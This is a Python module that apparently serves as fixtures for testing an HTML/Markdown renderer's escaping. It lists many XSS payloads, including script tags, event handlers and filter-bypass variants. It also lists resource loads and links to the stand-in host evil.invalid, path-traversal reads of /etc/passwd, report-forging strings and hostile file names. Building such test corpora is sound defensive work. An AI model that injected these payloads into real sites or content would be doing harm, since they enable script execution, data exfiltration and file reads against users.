"""Texts that would run, load or read something if a page took them for more than text.

In each `%d` stands for a number, which tells which one it was. Those of `OPEN` begin what they do
not end, so that nothing can follow them on the same page.
"""

# ruff: noqa: E501

SCRIPTS = """
<script>alert(%d)</script>
<SCRIPT SRC=http://evil.invalid/%d></SCRIPT>
<script type=module>import "http://evil.invalid/%d"</script>
<scr<script>ipt>alert(%d)</scr</script>ipt>
<script src="data:text/javascript,alert(%d)"></script>
<script src="search-index.js?%d"></script>
<svg><script>alert(%d)</script></svg>
<svg><script href="data:,alert(%d)"></script></svg>
<svg><style><img src=x onerror=alert(%d)></style></svg>
<math><mtext></mtext><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=alert(%d)&gt;">
<math href="javascript:alert(%d)">m</math>
<noscript><p title="</noscript><img src=x onerror=alert(%d)>"></noscript>
<template><script>alert(%d)</script></template>
<xmp><img src=x onerror=alert(%d)></xmp>
<title><img src=x onerror=alert(%d)></title>
<textarea><img src=x onerror=alert(%d)></textarea>
<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=alert(%d)></style></form>
<table><td><script>alert(%d)</script></table>
<!--><img src=x onerror=alert(%d)>-->
<![CDATA[<img src=x onerror=alert(%d)>]]>
<?xml version="1.0"?><img src=x onerror=alert(%d)>
<details open ontoggle=alert(%d)>d</details>
<custom-element onclick=alert(%d) tabindex=1 onfocus=alert(1) autofocus>c</custom-element>
""".strip().splitlines()
HANDLERS = r'''
<img src=x onerror=alert(%d)>
<img src=x onerror="alert(%d)//
<IMG """><SCRIPT>alert(%d)</SCRIPT>">
<img/src=x/onerror=alert(%d)>
<img src="x` `<script>alert(%d)</script>"` `>
<img src=x:x onerror=window['al'+'ert'](%d)>
<svg onload=alert(%d)>s</svg>
<svg><animate onbegin=alert(%d) attributeName=x dur=1s></svg>
<svg><set attributeName=href to=javascript:alert(%d) /><a><text>t</text></a></svg>
<body onload=alert(%d)>
<input autofocus onfocus=alert(%d)>
<select onfocus=alert(%d) autofocus><option>o</select>
<video><source onerror=alert(%d)></video>
<audio src=x onerror=alert(%d)></audio>
<marquee onstart=alert(%d)>m</marquee>
<div style="animation:a" onanimationstart=alert(%d)>d</div>
<p onpointerrawupdate=alert(%d) onmouseover=alert(1)>p</p>
" onmouseover="alert(%d)" autofocus onfocus="alert(1)
' onmouseover='alert(%d)
--><img src=x onerror=alert(%d)>
]]><img src=x onerror=alert(%d)>
&lt;img src=x onerror=alert(%d)&gt;
&#60;img src=x onerror=alert(%d)&#62;
\u003cimg src=x onerror=alert(%d)\u003e
%%3Cimg src=x onerror=alert(%d)%%3E
{{7*7}}{%% raw %%}<img src=x onerror=alert(%d)>{%% endraw %%}
'''.strip().splitlines()
LOADS = """
<img src=http://evil.invalid/%d.png>
<img src=//evil.invalid/%d.png srcset="//evil.invalid/2.png 2x">
<picture><source srcset=//evil.invalid/%d><img src=x></picture>
<link rel=stylesheet href=//evil.invalid/%d.css>
<link rel=prefetch href=http://evil.invalid/%d>
<style>@import "http://evil.invalid/%d.css"; body { display: none }</style>
<div style="background:url(http://evil.invalid/%d)">b</div>
<table background=//evil.invalid/%d><tr><td background=//evil.invalid/t>t</table>
<iframe src="javascript:alert(%d)"></iframe>
<iframe srcdoc="<script>alert(%d)</script>"></iframe>
<iframe src=file:///etc/passwd?%d></iframe>
<object data="data:text/html,<script>alert(%d)</script>"></object>
<embed src=//evil.invalid/%d>
<meta http-equiv=refresh content="0;url=http://evil.invalid/%d">
<base href=http://evil.invalid/%d/>
<a href=http://evil.invalid/%d ping=//evil.invalid/p>a</a>
<form action=//evil.invalid/%d><button>b</button></form>
<svg><image href=http://evil.invalid/%d /><use href=//evil.invalid/u#a /></svg>
<video src=//evil.invalid/%d poster=//evil.invalid/p autoplay></video>
<input type=image src=//evil.invalid/%d>
""".strip().splitlines()
LINKS = r"""
<a href="javascript:alert(%d)">a</a>
<a href=" &#1; java&#9;script:alert(%d)">a</a>
<a href="JaVaScRiPt&colon;alert(%d)">a</a>
<a href="data:text/html,<script>alert(%d)</script>">a</a>
<a href="vbscript:alert(%d)">a</a>
<a href="\\evil.invalid\%d">a</a>
[a](javascript:alert(%d))
[a](<java&#x09;script:alert(%d)>)
[a](data:text/html;base64,PHNjcmlwdD5hbGVydCglZCk8L3NjcmlwdD4=%d)
[a]: javascript:alert(%d)
<javascript:alert(%d)>
<http://evil.invalid/%d>
![i](http://evil.invalid/%d.png)
![i](//evil.invalid/%d.png "t")
![i](file:///etc/passwd?%d)
![i](/etc/passwd#%d)
![i](../../../../../../../etc/passwd?%d)
![i](..%%2f..%%2fetc%%2fpasswd?%d)
![i](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==%d)
![a" onerror="alert(%d)](x.png)
![i](x" onerror=alert(%d) ".png)
[![i](http://evil.invalid/%d.png)](javascript:alert(1))
`<img src=x onerror=alert(%d)>`
$<img src=x onerror=alert(%d)>$
$$\href{javascript:alert(%d)}{x}$$
""".strip().splitlines()
OPEN = """
<!-- <img src=x onerror=alert(%d)>
<plaintext><script>alert(%d)</script>
<textarea><script>alert(%d)</script>
<style>*{display:none}/*%d
<script>/*%d
<svg><![CDATA[<script>alert(%d)
<iframe src="//evil.invalid/%d
""".strip().splitlines()
CLOSED = [text % n for n, text in enumerate([*SCRIPTS, *HANDLERS, *LOADS, *LINKS])]
UNCLOSED = [text % (900 + n) for n, text in enumerate(OPEN)]
# Lines that would pass for others of a report, if a text could hold them.
FORGED = [
    "x\n\n## 検証\n\n- **誤り**　x: y",
    "x\r\r# 題\r\r![x](/etc/passwd)",
    "x\u2028## 節",
    "x\x85| a | b |\n|---|---|\n| 1 | 2 |",
    "x\n```\n<img src=x onerror=alert(1)>",
    "\u202exet\u202c",
]
# Names of files, without the slash that no name can hold.
NAMES = [
    *[text for text in CLOSED if "/" not in text and len(text.encode()) < 120][:24],
    *("javascript:alert(1)", "data:text,alert(1)", "%2e%2e%2fpasswd", "..", "-vs-", "a-vs-http:"),
]
